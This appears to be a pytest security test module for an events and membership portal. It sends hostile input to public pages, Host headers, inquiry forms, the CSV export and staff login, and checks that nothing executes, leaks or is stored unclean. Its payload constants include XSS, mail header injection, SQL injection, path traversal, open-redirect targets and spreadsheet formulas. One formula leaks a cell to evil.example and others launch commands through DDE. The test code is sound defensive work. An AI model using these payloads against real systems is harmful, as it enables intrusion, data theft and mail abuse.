"""Hostile input against every public form and query parameter and the main staff forms.

Each case is one request (or one form post) carrying a hostile value, held to four promises:

1. no 5xx, and no exception escaping the app (TESTING lets exceptions through to the test);
2. nothing executable is rendered back: hostile markup never appears raw, its escaped form does
   where the value is shown, and no tag of the page (read as a browser reads it) carries an
   event-handler attribute, a `javascript:` address or a script that is not JSON-LD data;
3. mail sent by a form carries only our headers, each once, each on a line of its own;
4. what was accepted (303) is stored as the form keeps it (inquiries: cleaned by clean_line
   and clean_text; staff forms: as typed, stripped); what was refused (4xx) stored nothing.

A bug found stays in its table as a strict xfail whose reason says what breaks.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
from helpers import STAFF_PASSWORD, inquire
from markupsafe import escape
from sqlalchemy import func, select
from werkzeug.test import create_environ, run_wsgi_app

from portal.accounts.models import StaffUser
from portal.core.audit import AuditEntry
from portal.core.text import clean_line, clean_text
from portal.events.models import Event, LinkKind, Project
from portal.extensions import db
from portal.inquiries.models import Inquiry, InquiryKind, InquiryNote, RoutingRule, StaffContact
from portal.inquiries.operations import Applicant
from portal.mail.messages import HEADERS
from portal.mail.models import OutboxMessage
from portal.offer.models import MembershipTier

pytestmark = pytest.mark.usefixtures("frozen_now")

# --- Payloads ----------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
SVG = "<svg/onload=alert(1)>"
ATTR = '" onmouseover="alert(1)'
ATTR_SINGLE = "' onmouseover='alert(1)"
CLOSE_TEXTAREA = "</textarea><script>alert(1)</script>"
CLOSE_SCRIPT = "</script><script>alert(1)</script>"
CRLF = "Eve\r\nBcc: victim@example.org"
LF = "Eve\nX-Injected: 1"
CR = "Eve\rX-Injected: 1"
PERCENT_CRLF = "Eve%0d%0aBcc: victim@example.org"
LINE_SEPARATOR = "Eve\u2028X-Injected: 1"
Q_WORD = "=?utf-8?q?=0D=0ABcc:_x@example.org?="
B_WORD = "=?utf-8?b?DQpYLUluamVjdGVkOiAy?="  # "\r\nX-Injected: 2"
HTML_WORD = "=?utf-8?q?=0D=0AContent-Type:_text/html=0D=0A=0D=0A<h1>Reset_now</h1>?="
ZWSP = "Ada\u200bLovelace"
WORD_JOINER = "Ada\u2060Lovelace"
SOFT_HYPHEN = "Ada\u00adLovelace"
BOM = "\ufeffAda Lovelace"
RLO = "Ada \u202eecalevoL"
NUL = "Ada\x00Lovelace"
LONG = "a" * 10_000
LONGER = "a" * 100_000
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
PLUS = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
SQL = "' OR 1=1 --"
SQL_DROP = "Robert'); DROP TABLE inquiry;--"

MARKUP = set("<>\"'")
INJECTED_LINE = re.compile(r"^(?:bcc|x-injected|x-evil|x)\s*:", re.I | re.M)


def bug(reason: str):
    return pytest.mark.xfail(strict=True, reason=f"bug: {reason}")


# --- One helper per kind of assertion -------------------------------------------------------


def assert_no_5xx(response) -> None:
    assert response.status_code < 500, response.status_code


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
ACTIVE_SCHEMES = ("javascript:", "vbscript:", "data:text/html")


class ActiveContent(HTMLParser):
    """What a browser would run in a page, read as a browser reads tags: event-handler
    attributes, javascript: (or vbscript:, data:text/html) addresses, scripts that are not
    JSON-LD data, frames and plugins. The portal's own templates have none of them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        values = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name in URL_ATTRIBUTES and address.startswith(ACTIVE_SCHEMES):
                self.found.append(f"<{tag} {name}={value!r}>")
        own_script = (values.get("src") or "").startswith(("/static/", "/assets/"))
        if tag == "script" and values.get("type") != "application/ld+json" and not own_script:
            self.found.append(f"<script {values}>")
        if tag in ("iframe", "frame", "object", "embed"):
            self.found.append(f"<{tag}>")

    handle_startendtag = handle_starttag


def assert_not_rendered_raw(body: str, payload: str | None, shown: str | None = None) -> None:
    """Nothing in `body` would run (ActiveContent); the raw markup of `payload` (a value with
    a tag in it) appears nowhere, line by line; and `shown`, the value as the page shows it,
    is there escaped when given."""
    parser = ActiveContent()
    parser.feed(body)
    parser.close()
    assert parser.found == []
    if payload and "<" in payload:
        assert payload not in body
        for line in payload.splitlines():
            assert "<" not in line or line not in body, line
    if shown is not None and MARKUP & set(shown):
        assert str(escape(shown)) in body


def header_names(raw: bytes) -> list[str]:
    head = raw.split(b"\r\n\r\n", 1)[0].decode("ascii")
    return [line.split(":", 1)[0].lower() for line in head.split("\r\n") if line[:1] not in " \t"]


def assert_only_our_headers(raw: bytes) -> None:
    names = header_names(raw)
    assert len(names) == len(set(names)), names
    assert set(names) <= HEADERS, set(names) - HEADERS
    head = raw.split(b"\r\n\r\n", 1)[0]
    assert b"\n" not in head.replace(b"\r\n", b""), "a bare LF in the header section"
    assert b"\r" not in head.replace(b"\r\n", b""), "a bare CR in the header section"
    assert b"\r\nContent-Type: text/plain" in head and b"text/html" not in head


def assert_mail_is_ours() -> None:
    for message in db.session.scalars(select(OutboxMessage)):
        assert_only_our_headers(message.raw)


TRACKED = (
    Inquiry,
    OutboxMessage,
    InquiryNote,
    Event,
    Project,
    MembershipTier,
    StaffContact,
    AuditEntry,
)


def counts() -> dict[str, int]:
    db.session.expire_all()
    return {
        model.__name__: db.session.scalar(select(func.count()).select_from(model))
        for model in TRACKED
    }


def assert_stored_or_nothing(response, before: dict[str, int], model=None, check=None) -> None:
    """A 303 stored one more `model` row, which `check(row)` accepts; a 4xx stored nothing."""
    after = counts()
    if 400 <= response.status_code < 500:
        assert after == before, "a refused request stored something"
        return
    assert response.status_code == 303, response.status_code
    if model is not None:
        assert after[model.__name__] == before[model.__name__] + 1
        row = db.session.scalar(select(model).order_by(model.id.desc()).limit(1))
        if check is not None:
            check(row)


def newest(model):
    db.session.expire_all()
    return db.session.scalar(select(model).order_by(model.id.desc()).limit(1))


# --- The data every case meets --------------------------------------------------------------


@pytest.fixture
def world(make_project, make_event, make_tier, make_package, make_contact, make_rule):
    """A project, an upcoming event selling sponsorship (package "coffee"), a past event, two
    tiers, and the contacts and rules that answer both kinds of inquiry."""
    make_project("openstack", "OpenStack")
    berlin = make_event(
        slug="berlin",
        title="OpenInfra Days Berlin",
        projects=("openstack",),
        starts_on=date(2025, 6, 5),
        ends_on=date(2025, 6, 6),
        timezone="Europe/Berlin",
        city="Berlin",
        country="DE",
    )
    past = make_event(
        slug="vancouver-2023",
        starts_on=date(2023, 6, 13),
        ends_on=date(2023, 6, 15),
        city="Vancouver",
        country="CA",
    )
    gold, silver = make_tier("gold"), make_tier("silver")
    make_package(berlin, "coffee", price=250_000, available=5)
    members = make_contact("members@example.org", name="Mia Members", team="Membership")
    events = make_contact("events@example.org", name="Evan Events", team="Events")
    make_contact("default@example.org", name="Dee Default", team="Office", is_default=True)
    make_rule("Membership inquiries", InquiryKind.MEMBERSHIP, [members])
    make_rule("Event sponsorship", InquiryKind.SPONSORSHIP, [events])
    return SimpleNamespace(berlin=berlin, past=past, gold=gold, silver=silver)


@pytest.fixture
def an_inquiry(world) -> int:
    """The id of one membership inquiry, for the inbox's forms."""
    applicant = Applicant("Grace Hopper", "grace@example.org", "Navy", "Tell me about gold.")
    return inquire(applicant, InquiryKind.MEMBERSHIP, tier=world.gold).inquiry_id


@pytest.fixture
def staff_client(app, world, make_staff, login):
    """A second browser, signed in as an admin, to look at what visitors sent."""
    other = app.test_client()
    assert login(make_staff("admin"), client=other).status_code == 303
    return other


FORMS = {
    "membership": ("/membership", {"tier": "gold"}),
    "sponsor": ("/events/berlin/sponsor", {"package": "coffee"}),
}

# --- Public GET pages and feeds -------------------------------------------------------------

# (path, query parameters, answers allowed, the hostile value, shown escaped on the page)
PUBLIC_GETS = [
    pytest.param("/", [("q", SCRIPT)], {200}, SCRIPT, False, id="home-unknown-script"),
    pytest.param("/", [("x", "\x00")], {400}, None, False, id="home-unknown-nul"),
    pytest.param("/events", [("q", SCRIPT)], {200}, SCRIPT, True, id="events-q-script"),
    pytest.param("/events", [("q", ATTR)], {200}, ATTR, True, id="events-q-attribute"),
    pytest.param("/events", [("q", ATTR_SINGLE)], {200}, ATTR_SINGLE, True, id="events-q-quote"),
    pytest.param("/events", [("q", CRLF)], {200}, CRLF, False, id="events-q-crlf"),
    pytest.param("/events", [("q", SQL)], {200}, SQL, True, id="events-q-sql"),
    pytest.param("/events", [("q", '"* NEAR(a b) OR')], {200}, None, False, id="events-q-fts"),
    pytest.param("/events", [("q", LONGER)], {400}, None, False, id="events-q-100k"),
    pytest.param("/events", [("q", NUL)], {400}, None, False, id="events-q-nul"),
    pytest.param("/events", [("q", "a"), ("q", "b")], {200}, None, False, id="events-q-twice"),
    pytest.param("/events", [("project", "../etc")], {400}, None, False, id="events-project-dots"),
    pytest.param("/events", [("project", SCRIPT)], {400}, SCRIPT, False, id="events-project-html"),
    pytest.param("/events", [("format", SCRIPT)], {400}, SCRIPT, False, id="events-format-html"),
    pytest.param("/events", [("country", SCRIPT)], {400}, SCRIPT, False, id="events-country-html"),
    pytest.param(
        "/events", [("country", "DE"), ("country", "FR")], {200}, None, False,
        id="events-country-twice",
    ),
    pytest.param("/events", [("from", "2025-02-30")], {400}, None, False, id="events-from-feb-30"),
    pytest.param("/events", [("from", "0000-01-01")], {400}, None, False, id="events-from-year-0"),
    pytest.param("/events", [("to", "9999-12-31")], {200}, None, False, id="events-to-year-9999"),
    pytest.param(
        "/events", [("from", "2025-03-06"), ("to", "2025-03-01")], {400}, None, False,
        id="events-to-before-from",
    ),
    pytest.param("/events", [("past", SCRIPT)], {200}, SCRIPT, False, id="events-past-html"),
    pytest.param("/events", [("page", "-1")], {400}, None, False, id="events-page-negative"),
    pytest.param(
        "/events", [("page", "99999999999999999999")], {400}, None, False, id="events-page-huge"
    ),
    pytest.param("/events", [("page", "²")], {400}, None, False, id="events-page-superscript"),
    pytest.param("/events", [("page", "٣")], {200}, None, False, id="events-page-arabic-digit"),
    pytest.param("/events", [("page", "10000")], {200}, None, False, id="events-page-past-the-end"),
    pytest.param(
        "/events", [("page", "1"), ("page", "2")], {200}, None, False, id="events-page-twice"
    ),
    pytest.param("/events", [("utm_source", SCRIPT)], {200}, SCRIPT, False, id="events-unknown"),
    pytest.param(
        "/events", [("_anchor", SCRIPT)], {200}, SCRIPT, False,
        id="events-url-for-anchor",
    ),
    pytest.param(
        "/events", [("_external", "1"), ("_scheme", "javascript")], {200}, None, False,
        id="events-url-for-scheme",
    ),
    pytest.param(
        "/events", [("endpoint", "x")], {200}, None, False, id="events-url-for-endpoint",
    ),
    pytest.param(
        "/events", [("_method", "POST")], {200}, None, False, id="events-url-for-method",
    ),
    pytest.param(
        "/events", [("past", "1"), ("page", "5"), ("endpoint", "x")], {200}, None, False,
        id="events-past-page-past-the-end-endpoint",
    ),
    pytest.param("/events.ics", [("q", SCRIPT)], {200}, None, False, id="feed-q-script"),
    pytest.param(
        "/events.ics", [("q", "x\r\nX-Injected: 1")], {200}, None, False, id="feed-q-ics-property"
    ),
    pytest.param("/events.ics", [("q", LONGER)], {400}, None, False, id="feed-q-100k"),
    pytest.param("/events.ics", [("q", NUL)], {400}, None, False, id="feed-q-nul"),
    pytest.param("/events.ics", [("country", SCRIPT)], {400}, None, False, id="feed-country-html"),
    pytest.param(
        "/events.ics", [("country", "DE"), ("country", "FR")], {200}, None, False,
        id="feed-country-twice",
    ),
    pytest.param(
        "/events.ics", [("from", "2025-02-30")], {400}, None, False,
        id="feed-from-feb-30",
    ),
    pytest.param("/events.ics", [("endpoint", "x")], {200}, None, False, id="feed-endpoint"),
    pytest.param("/events/berlin", [("q", SCRIPT)], {200}, SCRIPT, False, id="event-unknown"),
    pytest.param("/events/berlin", [("x", "\x00")], {400}, None, False, id="event-nul-param"),
    pytest.param("/events/..%2f..%2fetc%2fpasswd", [], {404}, None, False, id="event-slug-dots"),
    pytest.param("/events/berlin%00", [], {404}, None, False, id="event-slug-nul"),
    pytest.param("/events/" + SCRIPT, [], {404}, SCRIPT, False, id="event-slug-script"),
    pytest.param("/events/..%2fberlin.ics", [], {404}, None, False, id="ics-slug-dots"),
    pytest.param("/events/month/2025-13", [], {404}, None, False, id="month-13"),
    pytest.param("/events/month/0000-01", [], {404}, None, False, id="month-year-0"),
    pytest.param("/events/month/2200-12", [], {200}, None, False, id="month-last-year"),
    pytest.param("/events/month/²⁰²⁵-03", [], {404}, None, False, id="month-superscript"),
    pytest.param("/events/month/٢٠٢٥-٠٣", [], {200, 404}, None, False, id="month-arabic-digits"),
    pytest.param("/events/month/2025-06", [("q", SCRIPT)], {200}, SCRIPT, True, id="month-q-html"),
    pytest.param(
        "/events/month/2025-06", [("country", SCRIPT)], {400}, SCRIPT, False, id="month-country"
    ),
    pytest.param(
        "/events/month/2025-06", [("endpoint", "x")], {200}, None, False,
        id="month-endpoint",
    ),
    pytest.param(
        "/membership", [("tier", SCRIPT)], {200}, SCRIPT, False,
        id="membership-tier-html",
    ),
    pytest.param(
        "/membership", [("tier", "gold"), ("tier", "silver")], {200}, None, False,
        id="membership-tier-twice",
    ),
    pytest.param("/membership", [("tier", NUL)], {400}, None, False, id="membership-tier-nul"),
    pytest.param(
        "/events/berlin/sponsor", [("package", SCRIPT)], {200}, SCRIPT, False,
        id="sponsor-package-html",
    ),
    pytest.param(
        "/events/berlin/sponsor", [("package", NUL)], {400}, None, False, id="sponsor-package-nul"
    ),
    pytest.param("/events/nowhere/sponsor", [], {404}, None, False, id="sponsor-no-event"),
    pytest.param(
        "/events/vancouver-2023/sponsor", [], {404}, None, False,
        id="sponsor-not-on-sale",
    ),
    pytest.param("/static/..%2f..%2fportal%2fconfig.py", [], {404}, None, False, id="static-dots"),
    pytest.param("/staff/login", [("next", SCRIPT)], {200}, SCRIPT, False, id="login-next-html"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "params", "allowed", "payload", "echoed"), PUBLIC_GETS)
def test_public_pages_and_feeds_answer_hostile_queries_inertly(
    client, world, path, params, allowed, payload, echoed
):
    before = counts()
    response = client.get(path, query_string=params)
    assert_no_5xx(response)
    assert response.status_code in allowed
    body = response.get_data(as_text=True)
    if response.mimetype == "text/calendar":
        assert not INJECTED_LINE.search(body)
    else:
        assert_not_rendered_raw(body, payload, payload if echoed else None)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert counts() == before


# A feed already rendered is answered before the app's input checks (core/pages.py), but never
# to a request with a NUL anywhere: that goes to the checks, warm or cold, and gets its 400.
# (warm the cache first?, query, answer)
WARM_FEEDS = [
    pytest.param(False, [("x", "\x00")], 400, id="cold-ignored-parameter-nul"),
    pytest.param(True, [("x", "\x00")], 400, id="warm-ignored-parameter-nul"),
    pytest.param(True, [("q", "\x00")], 400, id="warm-filter-nul"),
    pytest.param(True, [("q", "")], 200, id="warm-empty-filter"),
    pytest.param(True, [("q", SCRIPT)], 200, id="warm-filter-script"),
]


@pytest.mark.parametrize(("warm", "params", "answer"), WARM_FEEDS)
def test_a_cached_feed_answers_hostile_parameters_as_a_cold_one_would(
    client, world, warm, params, answer
):
    if warm:
        assert client.get("/events.ics").status_code == 200
    response = client.get("/events.ics", query_string=params)
    assert_no_5xx(response)
    assert response.status_code == answer
    assert not INJECTED_LINE.search(response.get_data(as_text=True))


# --- Odd Host headers -----------------------------------------------------------------------

HOSTS = [
    pytest.param("a" * 64 + ".example.org", id="label-over-63"),
    pytest.param("ex..ample.org", id="empty-label"),
    pytest.param("évents.example.org", id="not-ascii"),
    pytest.param("portal.test:99999", id="port-too-large"),
    pytest.param("portal.test:0", id="port-zero"),
    pytest.param("portal.test\r\nX: y", id="crlf"),
    pytest.param("<script>.example.org", id="markup"),
    pytest.param("portal.test@evil.example", id="userinfo"),
    pytest.param("portal.test/../evil", id="path"),
    pytest.param("[::1", id="unclosed-ipv6"),
    pytest.param("portal.test:80:80", id="two-ports"),
    pytest.param("-portal.test", id="leading-hyphen"),
    pytest.param("portal.test\x00", id="nul"),
]


def call(app, path: str, host: str):
    environ = create_environ(path, "http://localhost/")
    environ["HTTP_HOST"] = host
    body, status, headers = run_wsgi_app(app, environ, buffered=True)
    return int(status.split()[0]), headers, b"".join(body)


HOST_PATHS = ["/", "/events", "/events.ics", "/membership", "/staff/login", "/nowhere"]


@pytest.mark.parametrize("host", HOSTS)
def test_an_odd_host_header_answers_400_with_nosniff(app, host):
    for path in HOST_PATHS:
        status, headers, body = call(app, path, host)
        assert status == 400, path
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert b"<script" not in body and b"X: y" not in body


# --- The inquiry forms: every text field against every payload family ----------------------

TEXT_FIELDS = ("name", "organization", "message")
ONE_LINE = ("name", "organization")
# (id, payload, answer, the fields of /membership it is typed into)
TEXT_PAYLOADS = [
    ("script", SCRIPT, 303, TEXT_FIELDS),
    ("img-onerror", IMG, 303, ("name",)),
    ("svg-onload", SVG, 303, ("name",)),
    ("attribute", ATTR, 303, TEXT_FIELDS),
    ("attribute-single", ATTR_SINGLE, 303, ("name",)),
    ("close-textarea", CLOSE_TEXTAREA, 303, ("message",)),
    ("crlf", CRLF, 303, TEXT_FIELDS),
    ("lf", LF, 303, ("name",)),
    ("cr", CR, 303, ONE_LINE),
    ("percent-crlf", PERCENT_CRLF, 303, ONE_LINE),
    ("line-separator", LINE_SEPARATOR, 303, ONE_LINE),
    ("rfc2047-q", Q_WORD, 303, ONE_LINE),
    ("rfc2047-b", B_WORD, 303, TEXT_FIELDS),
    ("rfc2047-html", HTML_WORD, 303, TEXT_FIELDS),
    ("zwsp", ZWSP, 303, TEXT_FIELDS),
    ("word-joiner", WORD_JOINER, 303, ("name",)),
    ("soft-hyphen", SOFT_HYPHEN, 303, ("name",)),
    ("bom", BOM, 303, ("organization",)),
    ("rlo", RLO, 303, TEXT_FIELDS),
    ("nul", NUL, 400, TEXT_FIELDS),
    ("10k", LONG, 422, ("name", "message")),
    ("100k", LONGER, 422, TEXT_FIELDS),
    ("hyperlink", HYPERLINK, 303, ("organization",)),
    ("sql", SQL, 303, ("name", "message")),
    ("sql-drop", SQL_DROP, 303, ("organization",)),
]
# The sponsorship form shares the fields' code: it meets one payload of each family.
SPONSOR_PAYLOADS = {"script", "crlf", "rfc2047-b", "nul"}
INQUIRY_TEXT_CASES = [
    pytest.param(form, field, payload, answer, id=f"{form}-{field}-{name}")
    for form in FORMS
    for name, payload, answer, fields in TEXT_PAYLOADS
    for field in (fields if form == "membership" else TEXT_FIELDS)
    if form == "membership" or name in SPONSOR_PAYLOADS
]


def kept(field: str, typed: str) -> str:
    """What the inquiry form keeps of `typed`: one-line fields cleaned by clean_line, the
    message by clean_text, then stripped (portal/inquiries/forms.py)."""
    return clean_text(typed).strip() if field == "message" else clean_line(typed)


def assert_inquiry_pages_inert(staff_client, visitor, response, payload: str, shown: str) -> None:
    """The thank-you page, the inbox, the inquiry's page, the outbox and the dashboard show
    it inert (and the inquiry's page shows it, escaped)."""
    thanks = visitor.get(response.headers["Location"]).get_data(as_text=True)
    assert_not_rendered_raw(thanks, payload)
    inquiry = newest(Inquiry)
    for path, echoes in (
        ("/staff/inquiries/", False),
        (f"/staff/inquiries/{inquiry.id}", True),
        ("/staff/outbox/?show=sent", False),
        ("/staff/", False),
    ):
        page = staff_client.get(path)
        assert page.status_code == 200, path
        assert_not_rendered_raw(page.get_data(as_text=True), payload, shown if echoes else None)


@pytest.mark.parametrize(("form", "field", "payload", "answer"), INQUIRY_TEXT_CASES)
def test_inquiry_text_fields_keep_hostile_text_inert(
    request, client, world, submit, form, field, payload, answer
):
    path, extra = FORMS[form]
    before = counts()
    response = submit(path, **extra, **{field: payload})
    assert_no_5xx(response)
    assert response.status_code == answer
    if answer == 303:
        typed = kept(field, payload)

        def check(inquiry):
            assert getattr(inquiry, field) == typed
            assert inquiry.email == "ada@example.org"

        assert_stored_or_nothing(response, before, Inquiry, check)
        assert_mail_is_ours()
        if MARKUP & set(payload):
            staff_client = request.getfixturevalue("staff_client")
            assert_inquiry_pages_inert(staff_client, client, response, payload, typed)
    else:
        assert_stored_or_nothing(response, before)
        assert_not_rendered_raw(response.get_data(as_text=True), payload)


# (id, typed address, answers, the address stored on a 303, marks)
EMAIL_PAYLOADS = [
    ("crlf-bcc", "ada@example.org\r\nBcc: victim@example.org", {422}, None, ()),
    ("percent-crlf", "ada@example.org%0d%0aBcc:victim@example.org", {422}, None, ()),
    ("rfc2047-q", Q_WORD, {422}, None, ()),
    ("rfc2047-b-local-part", B_WORD + "@example.org", {303, 422}, B_WORD + "@example.org",
     ()),
    ("rfc2047-word-then-text", "=?utf-8?q?x?=b@example.org", {303, 422},
     "=?utf-8?q?x?=b@example.org", ()),
    ("not-quite-encoded-word", "=?x?=@example.org", {303}, "=?x?=@example.org", ()),
    ("script-local-part", "<script>@example.org", {422}, None, ()),
    ("quoted-script", '"<script>alert(1)</script>"@example.org', {422}, None, ()),
    ("attribute", 'ada@example.org" onmouseover="alert(1)', {422}, None, ()),
    ("zwsp-after", "ada@example.org\u200b", {303}, "ada@example.org", ()),
    ("zwsp-inside", "ad\u200ba@example.org", {422}, None, ()),
    ("bom-before", "\ufeffada@example.org", {303}, "ada@example.org", ()),
    ("idn-domain", "ada@bücher.de", {303}, "ada@xn--bcher-kva.de", ()),
    ("formula-local-part", "=1+2@example.org", {303}, "=1+2@example.org", ()),
    ("nul", "ada@example.org\x00", {400}, None, ()),
    ("100k", "a" * 100_000 + "@example.org", {422}, None, ()),
    ("sql", "' OR 1=1 --@example.org", {422}, None, ()),
    ("two-addresses", "ada@example.org, eve@example.org", {422}, None, ()),
    ("display-name", "Eve <eve@example.org>", {422}, None, ()),
]  # fmt: skip
SPONSOR_EMAILS = {"crlf-bcc", "rfc2047-b-local-part", "zwsp-after", "idn-domain", "nul"}
INQUIRY_EMAIL_CASES = [
    pytest.param(form, typed, answers, stored, id=f"{form}-email-{name}", marks=marks)
    for form in FORMS
    for name, typed, answers, stored, marks in EMAIL_PAYLOADS
    if form == "membership" or name in SPONSOR_EMAILS
]


@pytest.mark.parametrize(("form", "typed", "answers", "stored"), INQUIRY_EMAIL_CASES)
def test_inquiry_addresses_add_no_header_and_are_stored_as_kept(
    client, world, submit, form, typed, answers, stored
):
    path, extra = FORMS[form]
    before = counts()
    response = submit(path, **extra, email=typed)
    assert_no_5xx(response)
    assert response.status_code in answers
    assert_stored_or_nothing(
        response, before, Inquiry, lambda inquiry: assert_equal(inquiry.email, stored)
    )
    assert_mail_is_ours()
    if response.status_code != 303:
        assert_not_rendered_raw(response.get_data(as_text=True), typed)


def assert_equal(found, expected) -> None:
    assert found == expected


# The other fields of the inquiry forms: selects, consent, the honeypot; required text that
# cleans to nothing. (form, fields, answer, stores an inquiry)
INQUIRY_FIELD_CASES = [
    pytest.param("membership", {"tier": SCRIPT}, 422, False, id="membership-tier-script"),
    pytest.param("membership", {"tier": "../gold"}, 422, False, id="membership-tier-dots"),
    pytest.param("membership", {"tier": ""}, 303, True, id="membership-tier-undecided"),
    pytest.param("sponsor", {"package": SCRIPT}, 422, False, id="sponsor-package-script"),
    pytest.param("sponsor", {"package": "../coffee"}, 422, False, id="sponsor-package-dots"),
    *(
        pytest.param(form, {"consent": value}, 422, False, id=f"{form}-consent-{label}")
        for form in FORMS
        for label, value in (
            ("0", "0"), ("off", "off"), ("false", "false"), ("no", "no"),
            ("script", SCRIPT), ("y-with-zwsp", "y\u200b"),
        )
        if form == "membership" or label in ("0", "off", "false")
    ),
    pytest.param("membership", {"consent": None}, 422, False, id="membership-consent-missing"),
    pytest.param("membership", {"website": "https://spam.example"}, 303, False,
                 id="membership-honeypot-filled"),
    pytest.param("sponsor", {"website": SCRIPT}, 303, False, id="sponsor-honeypot-script"),
    pytest.param("membership", {"website": " "}, 303, True, id="membership-honeypot-space"),
    pytest.param("membership", {"website": "\x00"}, 400, False, id="membership-honeypot-nul"),
    pytest.param(
        "membership", {"name": " \t "}, 422, False, id="membership-name-blank",
    ),
    pytest.param(
        "membership", {"name": "\u200b"}, 422, False, id="membership-name-only-invisible",
    ),
    pytest.param(
        "sponsor", {"organization": "\u00ad\u2060"}, 422, False,
        id="sponsor-organization-only-invisible",
    ),
    pytest.param("membership", {"message": "\u200b" * 20}, 422, False,
                 id="membership-message-only-invisible"),
    pytest.param("membership", {"message": "x" * 5000}, 303, True, id="membership-message-5000"),
    pytest.param("membership", {"message": "x" * 5001}, 422, False, id="membership-message-5001"),
    pytest.param("membership", {"name": "x" * 101}, 422, False, id="membership-name-101"),
    pytest.param("membership", {"name": "x" * 100 + "\u200b" * 50}, 303, True,
                 id="membership-name-100-and-invisible"),
    pytest.param("membership", {"unknown": SCRIPT}, 303, True, id="membership-unknown-field"),
    pytest.param("membership", {"name": ["Ada", "Eve\r\nBcc: x@example.org"]}, 303, True,
                 id="membership-name-twice"),
    pytest.param("sponsor", {"email": ["ada@example.org", "eve@example.org"]}, 303, True,
                 id="sponsor-email-twice"),
]  # fmt: skip


@pytest.mark.parametrize(("form", "fields", "answer", "stores"), INQUIRY_FIELD_CASES)
def test_inquiry_selects_consent_and_honeypot_refuse_or_store_right(
    client, world, submit, form, fields, answer, stores
):
    path, extra = FORMS[form]
    before = counts()
    response = submit(path, **{**extra, **fields})
    assert_no_5xx(response)
    assert response.status_code == answer
    after = counts()
    assert after["Inquiry"] == before["Inquiry"] + (1 if stores else 0)
    if not stores:
        assert after == before
    else:
        inquiry = newest(Inquiry)
        for field in ("name", "organization", "message"):
            value = fields.get(field)
            if isinstance(value, str):
                assert getattr(inquiry, field) == kept(field, value)
            elif isinstance(value, list):
                assert getattr(inquiry, field) == kept(field, value[0])
    assert_mail_is_ours()
    for value in fields.values():
        if isinstance(value, str):
            assert_not_rendered_raw(response.get_data(as_text=True), value)


# --- CSV export: formula starts are neutralised ---------------------------------------------

FORMULA_CASES = [
    pytest.param("name", HYPERLINK, id="name-hyperlink"),
    pytest.param("name", PLUS, id="name-plus-cmd"),
    pytest.param("name", AT_SUM, id="name-at-sum"),
    pytest.param("name", "\t=1+1", id="name-tab-then-formula"),
    pytest.param("name", "\u200b=1+1", id="name-zwsp-then-formula"),
    pytest.param("organization", HYPERLINK, id="organization-hyperlink"),
    pytest.param("organization", "\r\n=1+1", id="organization-crlf-then-formula"),
    pytest.param("message", HYPERLINK, id="message-hyperlink"),
    pytest.param("message", PLUS + " and more", id="message-plus-cmd"),
    pytest.param("message", MINUS, id="message-minus"),
    pytest.param("message", "\u200b=1+1 is two", id="message-zwsp-then-formula"),
    pytest.param("message", "harmless\n=1+1 below", id="message-formula-on-line-two"),
    pytest.param("email", "=1+2@example.org", id="email-equals"),
    pytest.param("email", "+1@example.org", id="email-plus"),
]
COLUMN = {"name": 4, "email": 5, "organization": 6, "message": 8}


@pytest.mark.parametrize(("field", "payload"), FORMULA_CASES)
def test_the_csv_export_neutralises_formula_starts(submit, staff_client, field, payload):
    assert submit("/membership", tier="gold", **{field: payload}).status_code == 303
    inquiry = newest(Inquiry)
    stored = getattr(inquiry, field)
    if field != "email":
        assert stored == kept(field, payload)
    response = staff_client.get("/staff/inquiries/export.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True).removeprefix("\ufeff")
    rows = {row[0]: row for row in csv.reader(io.StringIO(text))}
    cell = rows[str(inquiry.id)][COLUMN[field]]
    if stored.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert cell == "'" + stored
    else:
        assert cell == stored
    for row in rows.values():
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row), row


# --- Staff: signing in ----------------------------------------------------------------------

GOOD = object()  # the staff member's own address or password
# (email, password, next, answer)
LOGIN_CASES = [
    pytest.param(GOOD, GOOD, "javascript:alert(1)", 303, id="next-javascript"),
    pytest.param(GOOD, GOOD, "//evil.example/", 303, id="next-protocol-relative"),
    pytest.param(GOOD, GOOD, "https://evil.example/", 303, id="next-absolute"),
    pytest.param(GOOD, GOOD, "/\\evil.example", 303, id="next-backslash"),
    pytest.param(GOOD, GOOD, "/staff/\r\nX-Injected: 1", 303, id="next-crlf"),
    pytest.param(GOOD, GOOD, "/staff/%0d%0aX-Injected:%201", 303, id="next-encoded-crlf"),
    pytest.param(GOOD, GOOD, "/staff/inquiries/?q=" + SCRIPT, 303, id="next-script"),
    pytest.param(GOOD, GOOD, "/" + "a" * 3000, 303, id="next-long"),
    pytest.param(SCRIPT, "wrong password", None, 422, id="email-script"),
    pytest.param(SQL, SQL, None, 422, id="email-and-password-sql"),
    pytest.param("a" * 10_000 + "@example.org", "x", None, 422, id="email-10k"),
    pytest.param(GOOD, "x" * 100_000, None, 422, id="password-100k"),
    pytest.param(GOOD, "pass\x00word", None, 400, id="password-nul"),
    pytest.param("admin\x00@example.org", "x", None, 400, id="email-nul"),
    pytest.param("editor@example.org\r\nBcc: x@example.org", "x", None, 422, id="email-crlf"),
]  # fmt: skip


@pytest.mark.parametrize(("email", "password", "next_", "answer"), LOGIN_CASES)
def test_signing_in_with_hostile_input(
    client, world, csrf, make_staff, email, password, next_, answer
):
    user = make_staff("editor")
    path = "/staff/login"
    data = {
        "csrf_token": csrf(path),
        "email": user.email if email is GOOD else email,
        "password": STAFF_PASSWORD if password is GOOD else password,
    }
    staff_before = db.session.scalar(select(func.count()).select_from(StaffUser))
    response = client.post(path, query_string={"next": next_} if next_ else {}, data=data)
    assert_no_5xx(response)
    assert response.status_code == answer
